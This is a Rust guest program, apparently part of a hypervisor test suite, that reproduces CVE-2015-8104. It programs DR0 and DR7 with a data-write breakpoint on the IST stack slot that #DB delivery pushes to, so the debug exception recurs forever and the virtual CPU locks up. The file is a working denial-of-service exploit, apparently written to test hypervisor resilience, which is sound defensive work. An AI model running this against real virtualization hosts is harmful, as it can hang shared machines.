//! Delivery of #DB raises #DB again, for ever: a data breakpoint on the stack that the delivery writes. It is a trap, due
//! before the handler's first instruction and before every interrupt, so that nothing else ever comes. SDM 3B 17.3.1.2,
//! 3A table 6-2; CVE-2015-8104.

#![no_std]
#![no_main]

use attacks::{Machine, idt, on, set_stack};
use core::arch::asm;
use kit::frames::PAGE;
use kit::segments::KERNEL_CODE;
use kit::trap::{DEBUG, Gate, stub};

attacks::guest!(run);

/// The stack it is delivered on.
const IST: u8 = 2;
/// DR7: L0 (bit 0); R/W0 = 1, data writes (17:16); LEN0 = 2, eight bytes (19:18).
const DR7: u64 = 1 << 0 | 1 << 16 | 2 << 18 | 1 << 10;

fn run(mut machine: Machine) -> ! {
    let stack = machine.frames.take(PAGE, PAGE).expect("no memory") + PAGE;
    set_stack(IST, stack);
    idt().0[DEBUG as usize] = Gate::interrupt(stub(DEBUG as u8), IST);
    // Where a handler runs at all, it returns, and the next write raises the exception again.
    on(DEBUG as u8, |_| {});
    machine.alive();
    kit::cpu::cli();
    // The delivery's first push is SS, in the eight bytes below the top.
    let slot = (stack - 8) as *mut u64;
    // SAFETY: debug registers affect this guest only; the slot is its own memory.
    unsafe {
        asm!("mov dr0, {}", in(reg) slot, options(nomem, nostack));
        asm!("mov dr7, {}", in(reg) DR7, options(nomem, nostack));
        loop {
            slot.write_volatile(KERNEL_CODE as u64);
        }
    }
}
